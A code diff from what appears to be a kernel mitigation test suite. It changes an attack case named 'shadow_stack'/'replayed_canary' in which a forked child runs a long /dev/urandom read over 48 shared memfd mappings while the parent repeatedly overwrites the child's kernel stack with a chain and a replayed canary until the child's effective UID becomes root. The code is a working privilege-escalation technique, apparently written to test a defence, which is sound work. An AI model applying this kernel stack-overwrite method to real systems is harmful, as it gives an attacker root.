@@ -10,25 +10,38 @@ ATTACK("shadow_stack", "replayed_canary", "shadow_stack: return address changed"
        "The function finds its canary sound, returns where the program wants, and the "
        "program is root.");
 
-#define LONG_READ (24l << 20)
+#define PART (4l << 20)
+#define PARTS 48 /* of the same memory: the read takes much longer than the attacker */
 /* The call stands this far from the caller's start at most. */
 #define CALLER_SIZE 4096
-#define AREA_FLAGS (MAP_PRIVATE | MAP_ANONYMOUS)
 
 static bool control(void)
 {
 	return is_ordinary();
 }
 
+static long map_parts(void)
+{
+	const long file = call2(__NR_memfd_create, (long)"part", 0);
+	const long area = call6(__NR_mmap, 0, PARTS * PART, PROT_READ | PROT_WRITE,
+				MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+
+	call2(__NR_ftruncate, file, PART);
+	for (long i = 0; i < PARTS; i++)
+		call6(__NR_mmap, area + i * PART, PART, PROT_READ | PROT_WRITE,
+		      MAP_SHARED | MAP_FIXED, file, 0);
+	return area;
+}
+
 /* Reads of random bytes: a loop in the kernel around an array of 256 bytes. */
 static void read_until_root(void)
 {
-	const long area = call6(__NR_mmap, 0, LONG_READ, PROT_READ | PROT_WRITE, AREA_FLAGS, -1, 0);
+	const long area = map_parts();
 	const long file = call3(__NR_open, (long)"/dev/urandom", O_RDONLY, 0);
 
 	(void)own_cpu(1);
 	do
-		call3(__NR_read, file, area, LONG_READ);
+		call3(__NR_read, file, area, PARTS * PART);
 	while (call0(__NR_geteuid) != 0);
 	leave(reads_prize() ? 1 : 0);
 }
@@ -66,6 +79,8 @@ static bool overflow(uint64_t child, uint64_t top)
 		return false;
 	make_chain(words + count, slot, child, top);
 	count += CHAIN_SIZE / 8;
+	if (find_canary(top, canary) != start)
+		return false;
 	for (unsigned int i = 0; i < count; i++)
 		poke(start + 8 * i, words[i]);
 	return true;
@@ -76,17 +91,17 @@ static bool fire(void)
 	const uint64_t task = own_task();
 	const long id = fork_program();
 	uint64_t child, top;
-	int status;
+	int status = 0;
 
 	if (id == 0)
 		read_until_root();
 	(void)own_cpu(0);
 	child = child_task(task, id);
 	top = peek(child + member("task.stack_top"));
-	do
-		sleep_milliseconds(20);
-	while (!overflow(child, top));
-	status = wait_program(id);
+	do {
+		sleep_milliseconds(1);
+		(void)overflow(child, top);
+	} while (call4(__NR_wait4, id, (long)&status, 1, 0) == 0);
 	if ((status & 0x7f) == SIGKILL)
 		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
 	return status >> 8 == 1;
